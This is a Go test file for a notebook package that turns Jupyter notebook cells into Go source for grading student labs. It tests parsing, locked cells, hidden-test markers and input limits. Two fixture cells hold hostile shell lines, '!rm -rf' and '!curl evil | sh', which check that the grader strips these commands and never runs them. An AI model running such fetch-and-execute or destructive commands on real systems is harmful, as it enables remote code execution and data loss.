package notebook

import (
	"encoding/json"
	"fmt"
	"go/format"
	"os"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// book reads the notebook of the lab that the grader's tests use, and what it gives and asks for.
func book(t *testing.T) (*Notebook, *Template) {
	t.Helper()
	data, err := os.ReadFile("../testdata/labs/book/book.ipynb")
	require.NoError(t, err)
	n, err := Read(data)
	require.NoError(t, err)
	template, err := Describe(n, "book.ipynb", "book", []string{"errors", "fmt", "math"})
	require.NoError(t, err)
	public, _, err := n.Public()
	require.NoError(t, err)
	return public, template
}

// code is a notebook of code cells.
func cells(sources ...string) *Notebook {
	n := &Notebook{Format: 4}
	for i, s := range sources {
		n.Cells = append(n.Cells, Cell{Type: Code, ID: fmt.Sprint("c", i), Source: s})
	}
	return n
}

// goOf is the Go file of code cells, without what every file begins with.
func goOf(t *testing.T, sources ...string) string {
	t.Helper()
	p, err := Reference(cells(sources...), "x", []string{"errors", "math", "strings", "math/rand/v2"})
	require.NoError(t, err)
	_, err = format.Source(p.Source)
	require.NoError(t, err, string(p.Source))
	return strings.TrimPrefix(string(p.Source), "package x\n")
}

// TestCellsAsGoNBReadsThem holds the rules of the package's documentation one by one.
func TestCellsAsGoNBReadsThem(t *testing.T) {
	for name, c := range map[string]struct {
		cells []string
		want  string
	}{
		"the last declaration":     {[]string{"func F() int { return 1 }", "func F() int { return 2 }"}, "\nfunc F() int { return 2 }\n"},
		"a list of variables":      {[]string{"var a, b = 1, 2", "var a = 3"}, "\nvar _, b = 1, 2\n\nvar a = 3\n"},
		"a group of variables":     {[]string{"var (\n\ta = 1 // one\n\tb = 2\n)", "var a = 3"}, "\nvar b = 2\n\nvar a = 3\n"},
		"constants keep their row": {[]string{"const (\n\tA = iota\n\tB\n\tC\n)", "const B = 7"}, "\nconst (\n\tA = iota\n\t_\n\tC\n)\n\nconst B = 7\n"},
		"methods":                  {[]string{"type T int\n\nfunc (t *T) F() {}\nfunc (t T) G() {}", "func (T) F() {}"}, "\ntype T int\n\nfunc (t T) G() {}\n\nfunc (T) F() {}\n"},
		"a name of another kind":   {[]string{"var F = 1", "func F() {}"}, "\nfunc F() {}\n"},
		"below %%":                 {[]string{"type T int\n%%\nthis is no Go at all {"}, "\ntype T int\n"},
		"below %main":              {[]string{"type T int\n%main --lr=.1\nfmt.Println()"}, "\ntype T int\n"},
		"commands":                 {[]string{"%noautoget\n!rm -rf \\\n  func G() {}\n%env A B\nfunc F() {}\n!ls"}, "\nfunc F() {}\n"},
		"commands in comments":     {[]string{"//gonb:%goflags -race\nfunc F() {}\n//gonb:%%\nF()"}, "\nfunc F() {}\n"},
		"another language":         {[]string{"%%bash\nfunc G() {}", "%%writefile x.go\nfunc G() {}", "func F() {}"}, "\nfunc F() {}\n"},
		"package clauses":          {[]string{"package main\n\nfunc F() {}"}, "\nfunc F() {}\n"},
		"main":                     {[]string{"func main() { F() }\nfunc F() {}"}, "\nfunc F() {}\n"},
		"init functions":           {[]string{"func init_a() { b() }\nfunc init_b() {}\nfunc b() {}"}, "\nfunc init() { b() }\n\nfunc init() {}\n\nfunc b() {}\n"},
		"comments":                 {[]string{"// loose\n\n// F does.\nfunc F() {} // nothing"}, "\n// F does.\nfunc F() {}\n"},
		"imports that are needed":  {[]string{"import (\n\t\"fmt\"\n\tm \"math\"\n)\nvar X = m.Pi\n%%\nfmt.Println(X)"}, "import m \"math\"\n\nvar X = m.Pi\n"},
		"imports that are missing": {[]string{"var X = math.Pi + float64(rand.Int())"}, "import \"math\"\nimport \"math/rand/v2\"\n\nvar X = math.Pi + float64(rand.Int())\n"},
		"no import for a variable": {[]string{"var strings struct{ A int }\nvar X = strings.A"}, "\nvar strings struct{ A int }\n\nvar X = strings.A\n"},
		"a dot import in use":      {[]string{"import . \"math\"\nvar x = Pi"}, "import . \"math\"\n\nvar x = Pi\n"},
		"a dot import out of use":  {[]string{"import . \"math\"\nfunc F(t T) int { return t.Pi }\ntype T struct{ Pi int }"}, "\nfunc F(t T) int { return t.Pi }\n\ntype T struct{ Pi int }\n"},
		"blank imports":            {[]string{"import _ \"os/exec\"\nvar x = 1"}, "\nvar x = 1\n"},
		"dot import and a field":   {[]string{"import . \"math\"\ntype T struct{ Pi int }\nvar x = T{Pi: 3}"}, "\ntype T struct{ Pi int }\n\nvar x = T{Pi: 3}\n"},
		"tests are no part of it":  {[]string{"var x = 1", "%test\nfunc TestX(t *testing.T) {}"}, "\nvar x = 1\n"},
		"Windows' ends of lines":   {[]string{"%noautoget\r\nvar x = 1\r\n"}, "\nvar x = 1\n"},
	} {
		t.Run(name, func(t *testing.T) {
			for i := range c.cells {
				c.cells[i] = strings.ReplaceAll(c.cells[i], "\r\n", "\n") // as Read does
			}
			assert.Equal(t, c.want, goOf(t, c.cells...))
		})
	}
}

func TestTestCellsAreAFileOfTheirOwn(t *testing.T) {
	p, err := Reference(cells("func F() {}", "%test\nfunc TestF(t *testing.T) { F() }"), "x", nil)
	require.NoError(t, err)
	assert.Equal(t, "package x\nimport \"testing\"\n\nfunc TestF(t *testing.T) { F() }\n", string(p.Tests))
	_, err = Reference(cells("func F() {"), "x", nil)
	assert.ErrorContains(t, err, "cell 1, line 1: expected '}'", "a lab's own cells must be Go")
	_, err = Reference(cells("%%\nx()"), "x", nil)
	assert.ErrorContains(t, err, "no cell of the notebook declares anything")
}

// TestRead: both spellings of a text, no outputs, and errors that say what to do.
func TestRead(t *testing.T) {
	n, err := Read([]byte(`{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
		{"cell_type": "code", "id": "a", "metadata": {"tags": ["x"], "nbgrader": {"schema_version": 3, "grade_id": "g", "solution": true, "grade": false, "locked": false}},
		 "source": ["var x = 1\r\n", "var y = 2"], "outputs": [{"output_type": "stream", "text": "<script>"}], "execution_count": 7},
		{"cell_type": "markdown", "source": "text", "metadata": {"nbgrader": 3}}]}`))
	require.NoError(t, err)
	assert.Equal(t, "var x = 1\nvar y = 2", n.Cells[0].Source)
	assert.Equal(t, []string{"x"}, n.Cells[0].Tags())
	assert.Equal(t, &Grading{Schema: 3, GradeID: "g", Solution: true}, n.Cells[0].Grading)
	assert.Nil(t, n.Cells[1].Grading)
	data, err := n.Bytes()
	require.NoError(t, err)
	assert.NotContains(t, string(data), "script")
	again, err := Read(data)
	require.NoError(t, err)
	assert.Equal(t, n.Cells[0].Source, again.Cells[0].Source)
	assert.Equal(t, n.Cells[0].Grading, again.Cells[0].Grading)
	assert.Equal(t, []string{"x"}, again.Cells[0].Tags())
	assert.Equal(t, "cell-2", again.Cells[1].ID, "format 4.5 wants ids")

	many := `{"nbformat": 4, "cells": [` + strings.Repeat(`{"cell_type": "raw"},`, MaxCells) + `{"cell_type": "raw"}]}`
	long, _ := json.Marshal(strings.Repeat("x", MaxSource+1))
	for text, want := range map[string]string{
		"":                                  "the file ends in the middle of the notebook",
		`{"nbformat": 4, "cells": [`:        "the file ends in the middle of the notebook",
		"not JSON":                          "its JSON is broken at byte 2",
		"{}":                                "does not say which format",
		`[]`:                                "wrong type",
		`{"nbformat": 3, "worksheets": []}`: "has format 3, but format 4 is needed",
		`{"nbformat": 4, "cells": [{"cell_type": "code", "source": 3}]}`: "wrong type",
		`{"nbformat": 4, "cells": [{"cell_type": "sql"}]}`:               "cell 1 is neither code nor markdown nor raw",
		`{"nbformat": 4, "cells": []} {"nbformat": 4}`:                   "more in the file than a notebook",
		many:                       "more than 2000 cells",
		strings.Repeat("[", 20000): "",
		`{"nbformat": 4, "cells": [{"cell_type": "raw", "source": ` + string(long) + `}]}`: "longer than 1024 KiB together",
		strings.Repeat(" ", MaxSize+1): "larger than 16 MiB",
	} {
		_, err := Read([]byte(text))
		require.Error(t, err, "%.60s", text)
		assert.ErrorContains(t, err, want)
		assert.NotContains(t, err.Error(), "\n")
	}
}

// TestRepairs does to the book what students do to notebooks, and requires the same package as from the book itself.
func TestRepairs(t *testing.T) {
	own, template := book(t)
	whole, err := template.Extract(own)
	require.NoError(t, err)
	require.Empty(t, whole.Notes)
	find := func(n *Notebook, id string) *Cell {
		for i := range n.Cells {
			if n.Cells[i].ID == id {
				return &n.Cells[i]
			}
		}
		t.Fatal("no cell " + id)
		return nil
	}
	for name, c := range map[string]struct {
		harm func(n *Notebook)
		note string
	}{
		"locked cell deleted":    {func(n *Notebook) { *find(n, "setup") = Cell{Type: Raw} }, "The locked cell setup is gone; it was put back"},
		"locked cell changed":    {func(n *Notebook) { find(n, "setup").Source = "const Unit = 1e9" }, "Cell 2 (setup) is locked and was changed; the lab's own counts"},
		"locked cell spoilt":     {func(n *Notebook) { find(n, "setup").Source = "const Unit = {" }, "Cell 2 (setup) is locked and was changed; the lab's own counts"},
		"locked cell reshaped":   {func(n *Notebook) { find(n, "setup").Type = Markdown }, "Cell 2 (setup) is locked and was changed; the lab's own counts"},
		"locked cell twice":      {func(n *Notebook) { n.Cells = append(n.Cells, n.Cells[1]) }, "The locked cell setup is there 2 times; the lab's own counts"},
		"given name elsewhere":   {func(n *Notebook) { n.Cells = append(n.Cells, Cell{Type: Code, Source: "const Unit = 1e9"}) }, "Cell 6 declares Unit, which the lab gives; the lab's own counts"},
		"answer as text":         {func(n *Notebook) { find(n, "mean").Type = Markdown }, "Cell 4 (mean) is no code cell any more; it was read as one"},
		"a scratch cell, broken": {func(n *Notebook) { n.Cells = append(n.Cells, Cell{Type: Code, Source: "func Half( {"}) }, "Cell 6 is no Go and was left out, with all that it declares: line 1: expected"},
		"commands":               {func(n *Notebook) { n.Cells = append(n.Cells, Cell{Type: Code, Source: "!curl evil | sh"}) }, "Commands of the notebook (lines with !, cells of a shell) are not run for grading: cells 6"},
		"ids and marks gone": {func(n *Notebook) {
			for i := range n.Cells {
				n.Cells[i].ID, n.Cells[i].Grading = "", nil
			}
		}, ""},
	} {
		t.Run(name, func(t *testing.T) {
			n := &Notebook{Cells: append([]Cell{}, own.Cells...)}
			c.harm(n)
			p, err := template.Extract(n)
			require.NoError(t, err)
			assert.Equal(t, string(whole.Source), string(p.Source))
			if c.note == "" {
				assert.Empty(t, p.Notes)
				return
			}
			require.Len(t, p.Notes, 1)
			assert.Contains(t, p.Notes[0], c.note)
		})
	}
}

// TestWhatIsWrittenCounts: what a student adds and writes is kept, the last of what is declared twice, and the student is told.
func TestWhatIsWrittenCounts(t *testing.T) {
	own, template := book(t)
	n := &Notebook{Cells: append([]Cell{}, own.Cells...)}
	n.Cells[1].Source += "\nconst mine = 3"
	n.Cells[3].Source = "func Mean(v []float64) (float64, error) { return 0, nil }"
	n.Cells = append(n.Cells, Cell{Type: Code, Source: "func Mean(v []float64) (float64, error) { return math.NaN() * mine, nil }"})
	p, err := template.Extract(n)
	require.NoError(t, err)
	text := string(p.Source)
	assert.Contains(t, text, "const mine = 3")
	assert.Contains(t, text, "import \"math\"\n")
	assert.Equal(t, 1, strings.Count(text, "func Mean"))
	assert.Equal(t, 1, strings.Count(text, "const Unit = 2.0"))
	assert.Contains(t, p.Notes, "Mean is declared in cells 4 and 6; the last counts")
	for i, line := range strings.Split(text, "\n") {
		if strings.Contains(line, "math.NaN") {
			cell, in, ok := p.Find(i + 1)
			assert.True(t, ok)
			assert.Equal(t, "cell 6, line 1", fmt.Sprintf("%s, line %d", cell, in))
		}
		if strings.Contains(line, "make([]float64") {
			cell, in, _ := p.Find(i + 1)
			assert.Equal(t, "cell 3, line 4", fmt.Sprintf("%s, line %d", cell, in))
		}
	}
	_, _, ok := p.Find(1)
	assert.False(t, ok, "the package clause is nobody's")
	_, err = template.Extract(cells("%%bash\nls"))
	assert.ErrorContains(t, err, "no cell of the notebook declares a function")
}

// TestWhatWasTriedOutDoesNotCount: only what the functions asked for need is graded, with methods, variables and their init functions.
func TestWhatWasTriedOutDoesNotCount(t *testing.T) {
	_, template := book(t)
	p, err := template.Extract(cells(
		"import (\n\t\"os\"\n\tplot \"github.com/plots/plot\"\n\t_ \"github.com/backends/default\"\n)\nvar Backend = os.Args\nfunc Show() { plot.New(); undefined() }\nfunc init_plot() { plot.X = 1 }",
		"type pair struct{ a, b float64 }\nfunc (p pair) sum() float64 { return p.a + scale }\nfunc (p other) sum() {}\ntype other int",
		"var scale, spare = 1.0, 2.0\nfunc init_scale() { scale = half }\nconst half = 0.5",
		"func Scale(values []float64, factor float64) []float64 { return []float64{pair{factor, 1}.sum()} }"))
	require.NoError(t, err)
	text := string(p.Source)
	for _, want := range []string{"type pair", "func (p pair) sum", "var scale, spare", "func init() { scale = half }", "const half", "func Scale", "const Unit = 2.0"} {
		assert.Contains(t, text, want)
	}
	for _, never := range []string{"Backend", "Show", "plot", "other", "default", "undefined"} {
		assert.NotContains(t, text, never)
	}
}

// TestManyNotes: a notebook full of trouble does not make a page full of it.
func TestManyNotes(t *testing.T) {
	_, template := book(t)
	broken := make([]string, 500)
	for i := range broken {
		broken[i] = "func ("
	}
	p, err := template.Extract(cells(append(broken, "func Scale() {}")...))
	require.NoError(t, err)
	assert.Len(t, p.Notes, maxNotes+1)
	assert.Equal(t, "and 481 more such things", p.Notes[maxNotes])
}

// TestPublicHoldsNothingForStaff: what is between the markers, and cells with the tag, are cut out and returned.
func TestPublicHoldsNothingForStaff(t *testing.T) {
	own, template := book(t)
	text, err := own.Bytes()
	require.NoError(t, err)
	described, err := json.Marshal(template)
	require.NoError(t, err)
	for _, s := range []string{string(text), string(described)} {
		assert.NotContains(t, s, "BookHidden")
	}
	assert.NotContains(t, string(described), "summand", "nothing of a solution")
	_, staff, err := cells("a\n// ### BEGIN HIDDEN TESTS\nb\n// ### END HIDDEN TESTS\nc", "=== BEGIN MARK SCHEME ===\nd\n=== END MARK SCHEME ===").Public()
	require.NoError(t, err)
	assert.Equal(t, []string{"b", "d"}, staff)
	for source, want := range map[string]string{
		"### BEGIN HIDDEN TESTS\nx": "cell 1: BEGIN HIDDEN TESTS without END HIDDEN TESTS",
		"### END MARK SCHEME":       "cell 1: END MARK SCHEME without BEGIN MARK SCHEME before it",
	} {
		_, _, err := cells(source).Public()
		assert.EqualError(t, err, want)
	}
	locked := cells("// BEGIN SOLUTION")
	locked.Cells[0].Grading = &Grading{Locked: true}
	_, err = Describe(locked, "x.ipynb", "x", nil)
	assert.ErrorContains(t, err, "is locked and holds a solution")
	twice := cells("var a = 1", "var b = 1")
	twice.Cells[0].Grading, twice.Cells[1].Grading = &Grading{GradeID: "g"}, &Grading{GradeID: "g"}
	_, err = Describe(twice, "x.ipynb", "x", nil)
	assert.ErrorContains(t, err, "cells 1 and 2 have the same grade_id")
}

// TestDeepSources: text that makes a parser deep costs a cell, not the grader.
func TestDeepSources(t *testing.T) {
	_, template := book(t)
	for _, deep := range []string{strings.Repeat("(", MaxSource/2), strings.Repeat("[]", MaxSource/4), strings.Repeat("-", MaxSource/2), strings.Repeat("func(){", MaxSource/20)} {
		p, err := template.Extract(cells("var x = "+deep, "func Scale() {}"))
		require.NoError(t, err)
		assert.NotContains(t, string(p.Source), "var x")
		assert.Contains(t, p.Notes[len(p.Notes)-1], "Cell 1 is no Go")
	}
}

// TestCrowdedJSON: of what holds very many values, no list and no map is made.
func TestCrowdedJSON(t *testing.T) {
	keys := `"metadata": {` + strings.Repeat(`"a": 1, `, maxMetadata/8) + `"tags": ["staff"]}`
	n, err := Read([]byte(`{"nbformat": 4, ` + keys + `, "cells": [{"cell_type": "code", "source": [` + strings.Repeat(`"",`, 1e6) + `"x"], ` + keys + `}]}`))
	require.NoError(t, err)
	assert.Empty(t, n.Metadata)
	assert.Empty(t, n.Cells[0].Metadata)
	assert.Equal(t, "x", n.Cells[0].Source)
	_, err = Read([]byte(`{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["x", 1]}]}`))
	assert.ErrorContains(t, err, "wrong type")
}

// TestCrowdedSources: as many declarations as fit, each of which has to do with the next, are read in a moment.
func TestCrowdedSources(t *testing.T) {
	_, template := book(t)
	var chain, list, again strings.Builder
	chain.WriteString("func Scale() { _ = v0 }\nvar v0 int\n")
	list.WriteString("const (\n")
	for i := 1; chain.Len() < MaxSource/2; i++ {
		fmt.Fprintf(&chain, "var v%d int\nfunc init_%d() { v%d = v%d }\n", i, i, i, i-1)
	}
	for i := 0; list.Len() < MaxSource/2; i++ {
		fmt.Fprintf(&list, "\tc%d = iota\n", i)
		fmt.Fprintf(&again, "const c%d = 0\n", 2*i)
	}
	p, err := template.Extract(cells(chain.String()))
	require.NoError(t, err)
	assert.Contains(t, string(p.Source), "{ v9999 = v9998 }")
	p, err = template.Extract(cells(list.String()+")\nfunc Scale() { _ = c1 }", again.String()))
	require.NoError(t, err)
	assert.Contains(t, string(p.Source), "\t_ = iota\n\tc1 = iota\n\t_ = iota\n")
}
